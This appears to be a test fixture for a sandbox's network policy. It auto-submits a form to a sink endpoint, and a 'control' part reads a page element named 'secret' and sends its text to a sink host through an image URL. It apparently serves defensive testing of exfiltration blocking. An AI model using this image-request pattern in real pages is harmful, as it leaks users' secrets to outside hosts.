//! guest = "app"
//! promise = "app-network"
//! policy = { resources = { inlineScripts = true } }
(async () => { const form = document.createElement("form"); form.action = SINK + "/x"; form.method = "post"; document.body.append(form); form.submit(); })().catch(() => {});
setTimeout(end, 250);
// --- control
const picture = new Image();
picture.src = `${stage.sink}/taken?${document.getElementById("secret").textContent}`;
await stage.until(() => picture.complete);
return "sent";
